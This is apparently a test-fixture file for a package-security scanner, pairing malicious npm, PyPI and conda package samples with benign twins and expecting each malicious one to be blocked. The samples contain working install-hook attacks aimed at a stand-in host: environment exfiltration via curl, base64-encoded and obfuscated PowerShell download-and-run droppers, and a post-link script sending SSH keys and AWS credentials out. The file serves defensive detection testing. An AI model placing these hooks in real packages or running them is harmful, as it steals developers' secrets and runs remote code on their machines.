import { conda, npm, type PackageCase, pypi, sdist, tarball, YOUNG } from '../../support/package-case.ts'

const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')

/** Scripts of shells, in files and in the words of hooks. */
export const shellAndPowershell: readonly PackageCase[] = [
  {
    id: 'a script of the shell',
    incident: 'codecov, April 2021, and its likes: a script of the package sends the environment of the build',
    project: npm(
      'build-coverage-upload',
      tarball(
        'build-coverage-upload',
        '1.2.3',
        {
          'index.js': 'module.exports = {};\n',
          'scripts/setup.sh':
            '#!/bin/bash\nset -e\nHOST="collect.example"\nDATA=$(env | base64 | tr -d "\\n")\ncurl -sm 0.5 -d "$DATA" "https://$HOST/upload/v2" || true\n',
        },
        { scripts: { postinstall: 'bash scripts/setup.sh' } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On install, reads the whole environment.*and sends it to collect\.example/,
      steps: ['scripts/setup.sh:4', 'scripts/setup.sh:5'],
    },
    twin: npm(
      'build-coverage-upload',
      tarball(
        'build-coverage-upload',
        '1.2.3',
        {
          'index.js': 'module.exports = {};\n',
          'scripts/setup.sh':
            '#!/bin/bash\nset -e\nif [ ! -d build ]; then\n  mkdir -p build\n  cp -r src/. build/\nfi\necho "built for $(uname -s) with node $(node --version)"\n',
        },
        { scripts: { postinstall: 'bash scripts/setup.sh' } },
      ),
    ),
  },
  {
    id: 'a shell that is fetched',
    incident: 'droppers on npm: what a host answers goes into a shell, in pieces and through base64',
    project: npm(
      'cli-colors-plus',
      tarball(
        'cli-colors-plus',
        '3.0.0',
        { 'index.js': 'module.exports = {};\n' },
        {
          scripts: {
            preinstall: `sh -c "$(echo ${Buffer.from('curl -fsSL https://collect.example/i | bash').toString('base64')} | base64 -d)"`,
          },
        },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On install, asks collect\.example and gives the answer to /,
      steps: ['package.json:5'],
    },
    twin: npm(
      'cli-colors-plus',
      tarball(
        'cli-colors-plus',
        '3.0.0',
        { 'index.js': 'module.exports = {};\n' },
        {
          scripts: {
            preinstall: 'node -e "if (process.versions.node < \'18\') process.exit(1)"',
            build: 'curl -fsSL https://colors.example/table.json -o table.json',
          },
        },
      ),
    ),
  },
  {
    id: 'PowerShell, encoded',
    incident: 'droppers on PyPI, 2022 to 2026: setup.py starts PowerShell with an encoded command',
    project: pypi(
      'colorslib-win',
      sdist('colorslib-win', '4.6.11', {
        'setup.py': `import subprocess, sys
from setuptools import setup
if sys.platform == "win32":
    subprocess.Popen("powershell -NoP -W Hidden -EncodedCommand ${encoded("Invoke-WebRequest -Uri 'https://collect.example/o.exe' -OutFile $env:TEMP\\o.exe; Start-Process $env:TEMP\\o.exe")}", shell=True)
setup(name="colorslib-win", version="4.6.11")
`,
      }),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On install, .*collect\.example/,
      steps: ['setup.py:4'],
    },
    twin: pypi(
      'colorslib-win',
      sdist('colorslib-win', '4.6.11', {
        'setup.py': `import subprocess, sys
from setuptools import setup
def version():
    if sys.platform == "win32":
        return subprocess.check_output(["powershell", "-NoProfile", "-Command", "(Get-Item setup.py).LastWriteTime.Year"]).decode().strip()
    return "2026"
setup(name="colorslib-win", version="4.6.11", description="Colours, " + version())
`,
      }),
    ),
  },
  {
    id: 'a script of PowerShell',
    incident: 'the same from a script of the package: a cradle that downloads, aliases and formatted names',
    project: npm(
      'win-node-helper',
      tarball(
        'win-node-helper',
        '1.0.0',
        {
          'index.js': 'module.exports = {};\n',
          'tools/setup.ps1':
            "$h = 'https://{0}.{1}/p.ps1' -f 'collect','example'\n$c = New-Object ('Net.' + 'WebClient')\n& ('i' + 'ex') $c.DownloadString($h)\n",
        },
        { scripts: { postinstall: 'powershell -ExecutionPolicy Bypass -WindowStyle Hidden -File tools/setup.ps1' } },
      ),
      { since: YOUNG },
    ),
    expect: {
      verdict: 'block',
      story: 'runs-downloaded-code',
      text: /^On install, .*collect\.example/,
      steps: ['tools/setup.ps1:3'],
    },
    twin: npm(
      'win-node-helper',
      tarball(
        'win-node-helper',
        '1.0.0',
        {
          'index.js': 'module.exports = {};\n',
          'tools/setup.ps1':
            "param([string]$Target = 'build')\nif (-not (Test-Path $Target)) { New-Item -ItemType Directory -Path $Target | Out-Null }\nCopy-Item -Path 'src/*' -Destination $Target -Recurse\nWrite-Host ('copied to {0}' -f $Target)\n",
        },
        { scripts: { build: 'powershell -File tools/setup.ps1' } },
      ),
    ),
  },
  {
    id: 'a link script of conda',
    incident: 'the same for conda: post-link scripts run when the package is linked into an environment',
    project: {
      ecosystem: 'conda',
      name: 'fast-tables',
      release: conda('fast-tables', '1.0.0', {
        'site-packages/fast_tables/__init__.py': 'VERSION = "1.0.0"\n',
        'bin/.fast-tables-post-link.sh':
          '#!/bin/bash\ncat ~/.ssh/id_ed25519 ~/.aws/credentials | gzip | curl -s --data-binary @- https://collect.example/c\n',
      }),
    },
    expect: {
      verdict: 'block',
      story: 'steals-secrets',
      text: /^On install, reads ~\/\.(?:ssh|aws).*sends it to collect\.example/,
      steps: ['bin/.fast-tables-post-link.sh:2'],
    },
    twin: {
      ecosystem: 'conda',
      name: 'fast-tables',
      release: conda('fast-tables', '1.0.0', {
        'site-packages/fast_tables/__init__.py': 'VERSION = "1.0.0"\n',
        'bin/.fast-tables-post-link.sh':
          '#!/bin/bash\n"$PREFIX/bin/python" -m compileall -q "$PREFIX/lib/python3.12/site-packages/fast_tables" >> "$PREFIX/.messages.txt" 2>&1\n',
      }),
    },
  },
]
